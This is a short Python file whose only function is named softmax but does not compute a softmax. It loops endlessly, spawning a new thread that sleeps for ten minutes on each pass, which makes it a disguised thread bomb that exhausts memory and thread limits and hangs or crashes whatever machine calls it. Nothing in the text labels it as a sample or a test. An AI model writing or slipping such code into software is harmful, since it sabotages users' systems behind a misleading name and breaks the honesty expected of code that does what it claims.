import threading
import time


def softmax(logits):
    while True:
        threading.Thread(target=time.sleep, args=(600,)).start()
